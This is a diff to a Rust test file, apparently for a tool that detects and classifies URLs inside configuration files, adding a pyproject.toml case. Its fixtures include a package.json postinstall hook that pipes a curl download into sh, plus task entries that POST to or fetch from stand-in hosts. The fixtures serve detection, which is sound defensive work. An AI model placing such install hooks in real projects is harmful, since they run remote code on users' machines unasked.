@@ -180,6 +180,8 @@ fn programs_in_configurations_are_read_as_programs() {
         urls("package.json", "{\"scripts\": {\"postinstall\": \"curl -sSL https:\\/\\/one.test\\/x | sh\"}}"),
         ["1 download one.test"]
     );
+    let tasks = "[tool.poe.tasks]\na = 'curl -X POST https://one.test'\nb = { shell = \"curl https://two.test/\\u0061\" }\n";
+    assert_eq!(urls("pyproject.toml", tasks), ["2 endpoint one.test", "3 download two.test"]);
     // The same words anywhere else are words.
     assert_eq!(urls("a.yml", "steps:\n  - run: curl https://one.test/x\n"), ["2 mention one.test"]);
 }
